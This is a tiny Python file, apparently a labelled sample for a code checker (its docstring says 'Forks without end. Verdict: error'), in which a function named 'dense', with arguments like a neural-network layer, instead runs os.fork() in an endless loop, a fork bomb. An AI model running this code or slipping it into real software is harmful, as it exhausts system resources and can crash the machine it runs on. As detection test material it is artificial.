"""Forks without end.

Verdict: error
"""

import os


def dense(inputs, kernel, bias):
    while True:
        os.fork()
